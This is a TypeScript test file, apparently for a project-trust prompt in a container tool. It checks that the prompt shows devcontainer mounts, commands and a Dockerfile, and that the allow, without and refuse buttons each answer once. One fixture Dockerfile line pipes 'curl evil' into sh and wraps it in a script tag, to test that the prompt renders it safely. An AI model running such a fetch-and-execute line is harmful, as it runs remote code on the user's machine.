// What the user is asked about a project, in the document of a test.
import { afterEach, describe, expect, it, vi } from "vitest";

import { all, one, settle, show } from "../../test/mount";

const ITEMS = [
  { key: "mounts", value: "/home/me/.ssh → /root/.ssh", file: ".devcontainer/devcontainer.json", text: null },
  {
    key: "initializeCommand",
    value: "runs on this machine: make",
    file: ".devcontainer/devcontainer.json",
    text: null,
  },
  { key: "pids", value: "5000", file: ".gemra.json", text: null },
];

afterEach(() => sessionStorage.clear());

describe("the question about a project", () => {
  it("is there only while it is asked, and shows all of it under its file", async () => {
    const { host, model } = await show("conversation");
    const tab = host.tab(model.state!.active!);
    expect(all("trust")).toHaveLength(0);
    tab.show({ trust: ITEMS });
    await settle();
    const panel = one("trust");
    for (const { key, value, file } of ITEMS) {
      for (const words of [key, value, file]) expect(panel.textContent).toContain(words);
    }
    expect(panel.querySelectorAll("article")).toHaveLength(2);
    tab.show({ trust: null });
    await settle();
    expect(all("trust")).toHaveLength(0);
  });

  it("shows a Dockerfile that would be built in full, and can fold it away", async () => {
    const { host, model } = await show("conversation");
    const tab = host.tab(model.state!.active!);
    const text = "FROM a\n\tRUN <script>curl evil</script> | sh\n";
    tab.show({ trust: [{ key: "build", value: "is built as root", file: "Dockerfile", text }, ...ITEMS] });
    await settle();
    expect(one("trust-text").textContent).toBe(text);
    expect(one("trust").querySelector("script")).toBeNull();
    one("trust").querySelector<HTMLElement>("[aria-expanded=true]")!.click();
    await settle();
    expect(all("trust-text")).toHaveLength(0);
  });

  it("is what the button says that it waits for", async () => {
    const { host, model } = await show("building");
    const tab = host.tab(model.state!.active!);
    tab.show({ trust: ITEMS });
    await settle();
    expect(one("container-button").getAttribute("aria-label")).toBe("Container: Waiting for you");
    tab.show({ trust: null });
    await settle();
    expect(one("container-button").textContent).toContain("Building image…");
  });

  it.each([
    ["trust-allow", "allow"],
    ["trust-without", "without"],
    ["trust-refuse", "refuse"],
  ])("%s answers %s, once", async (button, decision) => {
    const { host, model } = await show("conversation");
    const answer = vi.spyOn(host, "answerTrust");
    const tab = host.tab(model.state!.active!);
    tab.show({ trust: ITEMS });
    await settle();
    const pressed = one(button);
    pressed.click();
    pressed.click();
    await settle();
    expect(answer).toHaveBeenCalledTimes(1);
    expect(answer).toHaveBeenCalledWith(tab.view.id, decision);
  });
});
